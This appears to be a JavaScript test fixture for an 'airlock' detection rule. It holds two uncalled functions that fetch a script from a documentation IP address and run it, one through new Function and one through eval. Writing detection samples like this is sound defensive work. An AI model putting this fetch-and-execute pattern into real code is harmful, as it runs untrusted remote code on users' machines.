// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
async function never() {
  return new Function(await (await fetch('http://192.0.2.12/p.js')).text())();
}
function never2() {
  return fetch('http://192.0.2.12/p.js').then((r) => r.text()).then(eval);
}
module.exports = { never, never2 };
